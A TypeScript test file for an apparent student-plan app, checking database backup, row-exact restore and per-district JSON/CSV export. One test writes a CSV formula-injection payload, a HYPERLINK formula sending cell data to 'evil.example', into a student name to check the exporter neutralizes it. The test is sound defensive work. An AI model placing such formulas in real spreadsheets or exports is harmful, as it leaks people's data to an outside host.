import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BACKUP_TABLES, NOT_BACKED_UP, backup, restore } from '../src/db/backup';
import { connect, type Database } from '../src/db/connect';
import { exportDistrict } from '../src/db/export';
import { migrate } from '../src/db/migrate';
import { cloneTestDb, ENGINES, type TestDb } from './support/db';

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'openiep-backup-'));

describe.each(ENGINES)('backup, restore and export on %s', (engine) => {
  let source: TestDb;
  beforeAll(async () => {
    source = await cloneTestDb(engine);
  });
  afterAll(async () => source.drop());

  it('backs up every table that holds data (none forgotten when a migration adds one)', async () => {
    const tables = await source.db.query<{ t: string }>(
      `SELECT table_name AS t FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE'`,
    );
    const covered = new Set<string>([...BACKUP_TABLES, ...NOT_BACKED_UP]);
    expect(tables.map((r) => r.t).filter((t) => !covered.has(t))).toEqual([]);
  });

  it('restores a backup into an empty database, row for row, and refuses a database that is not empty', async () => {
    const file = path.join(tmp, `${engine}.jsonl.gz`);
    const counts = await backup(source.db, file);
    expect(counts.students).toBeGreaterThan(40);
    expect(counts.plans).toBeGreaterThan(0);
    const target: Database = await connect({ memory: true });
    await migrate(target);
    const restored = await restore(target, file);
    expect(restored).toEqual(Object.fromEntries(Object.entries(counts).filter(([, n]) => n > 0)));
    for (const table of BACKUP_TABLES) {
      const q = `SELECT md5(string_agg(row_to_json(t)::text, '|' ORDER BY row_to_json(t)::text)) AS h FROM ${table} t`;
      const [a] = await source.db.query<{ h: string | null }>(q);
      const [b] = await target.query<{ h: string | null }>(q);
      expect([table, b!.h]).toEqual([table, a!.h]);
    }
    // New audit entries continue after the restored ones.
    await target.query(`INSERT INTO audit_events (action, outcome) VALUES ('auth.sign_in', 'success')`);
    const max = await target.query<{ n: number }>('SELECT max(id)::int AS n FROM audit_events');
    expect(max[0]!.n).toBe(counts.audit_events! + 1);
    await expect(restore(target, file)).rejects.toThrow(/not empty/);
    await target.close();
  });

  it("exports one district's data as JSON and CSV, without password hashes or another district's rows", async () => {
    const [lincoln] = await source.db.query<{ id: string }>(
      `SELECT id::text AS id FROM districts WHERE name LIKE 'Lincoln%'`,
    );
    const dir = path.join(tmp, `export-${engine}`);
    const counts = await exportDistrict(source.db, lincoln!.id, dir);
    const students = JSON.parse(fs.readFileSync(path.join(dir, 'students.json'), 'utf8')) as { district_id: string }[];
    expect(students.length).toBe(counts.students);
    expect(new Set(students.map((s) => s.district_id))).toEqual(new Set([lincoln!.id]));
    const users = fs.readFileSync(path.join(dir, 'users.json'), 'utf8');
    expect(users).not.toContain('password_hash');
    expect(users).not.toContain('$argon2');
    const csv = fs.readFileSync(path.join(dir, 'students.csv'), 'utf8').split('\r\n');
    expect(csv[0]).toContain('first_name');
    expect(csv.length).toBe(counts.students! + 2); // header, rows, final empty line
  });

  it('writes the export CSVs with a BOM, accented names intact and a formula typed as a name neutralized', async () => {
    const [lincoln] = await source.db.query<{ id: string }>(
      `SELECT id::text AS id FROM districts WHERE name LIKE 'Lincoln%'`,
    );
    const [s] = await source.db.query<{ id: string }>(
      `SELECT id::text AS id FROM students WHERE district_id = $1::uuid ORDER BY local_id LIMIT 1`,
      [lincoln!.id],
    );
    const formula = '=HYPERLINK("http://evil.example/?d="&B2,"open")';
    await source.db.query(`UPDATE students SET first_name = $2, last_name = 'Núñez-Ødegård' WHERE id = $1::uuid`, [
      s!.id,
      formula,
    ]);
    const dir = path.join(tmp, `export-csv-${engine}`);
    await exportDistrict(source.db, lincoln!.id, dir);
    const bytes = fs.readFileSync(path.join(dir, 'students.csv'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows]: string[][] = parse(bytes.toString('utf8'), { bom: true });
    const row = rows.find((r) => r[header!.indexOf('id')] === s!.id)!;
    expect(row[header!.indexOf('first_name')]).toBe(`'${formula}`);
    expect(row[header!.indexOf('last_name')]).toBe('Núñez-Ødegård');
  });
});
